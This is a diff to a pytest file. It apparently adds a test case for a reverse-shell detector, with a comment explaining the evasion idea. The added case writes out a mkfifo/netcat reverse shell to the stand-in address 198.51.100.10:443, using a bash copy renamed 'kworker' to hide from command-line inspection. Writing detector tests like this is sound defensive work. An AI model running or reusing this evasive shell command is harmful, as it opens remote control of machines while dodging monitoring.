@@ -104,6 +104,19 @@ ATTACKS = [
         id="renamed-bash-443",
     ),
     pytest.param(
+        # The FIFO pipeline, hidden and renamed: the shell's stdio are pipes, and the socket
+        # is nc's own (no -e, nothing in any command line says shell or mkfifo).
+        _hidden(
+            "/tmp/p.sh",
+            "rm -f /tmp/f; mkfifo /tmp/f\n"
+            f"cat /tmp/f | /tmp/kworker -i 2>&1 | {BUSYBOX} nc 198.51.100.10 443 > /tmp/f\n",
+            "cp /bin/bash /tmp/kworker && /tmp/kworker /tmp/p.sh",
+        ),
+        "restricted",
+        ("critical", "reverse_shell", "killed"),
+        id="fifo-pipeline-renamed-443",
+    ),
+    pytest.param(
         # The socket becomes stdio after start (dup2), then the shell takes another name.
         _hidden(
             "/tmp/u.py",
